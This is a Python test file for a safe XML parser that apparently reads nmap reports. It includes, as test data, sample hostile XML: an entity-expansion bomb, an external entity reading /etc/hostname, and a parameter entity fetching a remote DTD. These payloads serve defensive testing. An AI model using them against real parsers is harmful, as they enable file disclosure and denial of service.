"""XML that somebody else wrote: what could grow or reach outside ends the parse."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from keystrand.formats import report_nmap
from keystrand.formats.report_parts import UNFORESEEN
from keystrand.formats.safe_xml import MAX_DEPTH, parsed_xml
from keystrand.model.errors import InvalidInput
from keystrand.model.observation import Outcome

LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE nmaprun [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><nmaprun>&c;</nmaprun>"""
OUTSIDE = b'<!DOCTYPE nmaprun [<!ENTITY x SYSTEM "file:///etc/hostname">]><nmaprun>&x;</nmaprun>'
PARAMETER = b'<!DOCTYPE nmaprun [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]><nmaprun/>'


@pytest.mark.parametrize("content", [LAUGHS, OUTSIDE, PARAMETER])
def test_traps_are_refused(content: bytes) -> None:
    """Entities that grow, and such that read a file or an address: refused at their declaration."""
    with pytest.raises(InvalidInput, match="entities"):
        parsed_xml(content)
    reading = report_nmap.read("x", content)
    assert (reading.found, reading.outcome) == ((), Outcome.UNPARSABLE)


@pytest.mark.parametrize("name", ["utf-9", "rot13", "base64", "big5", "utf-16"])
def test_an_encoding_that_is_not_read_is_told(name: str) -> None:
    """Unknown to Python, none of text, of several octets, or not the one that is there."""
    with pytest.raises(InvalidInput, match="encoding"):
        parsed_xml(f'<?xml version="1.0" encoding="{name}"?><a/>'.encode())


def test_depth_is_bounded() -> None:
    """Nested more deeply than any report: told, not run out of stack."""
    with pytest.raises(InvalidInput, match="nested"):
        parsed_xml(b"<a>" * (MAX_DEPTH + 1))


def test_elements_text_and_namespaces() -> None:
    """Names lose their namespace; text is that before the first child; a document type without content is fine."""
    root = parsed_xml(b'<!DOCTYPE a><a xmlns="http://x.example/1"><b k="v">t&amp;u</b><b/><c><d> e </d></c></a>')
    assert (root.name, [b.text for b in root.all("b")]) == ("a", ["t&u", ""])
    assert (root.said("c", "d"), root.said("c", "x"), root.first("x", "y")) == ("e", "", None)
    assert next(root.all("b")).attributes == {"k": "v"}


def test_faults_have_their_line() -> None:
    """A tag that does not match is told with its line, without content."""
    with pytest.raises(InvalidInput, match="line 3"):
        parsed_xml(b"<a>\n<secret>\n</b></a>")


@given(st.one_of(st.binary(max_size=100), st.text(alphabet="<>/ab&;![]\"'= ", max_size=60).map(str.encode)))
def test_any_octets_are_told_or_read(content: bytes) -> None:
    """Nothing but `InvalidInput` comes out."""
    assert UNFORESEEN not in report_nmap.read("x", content).reason
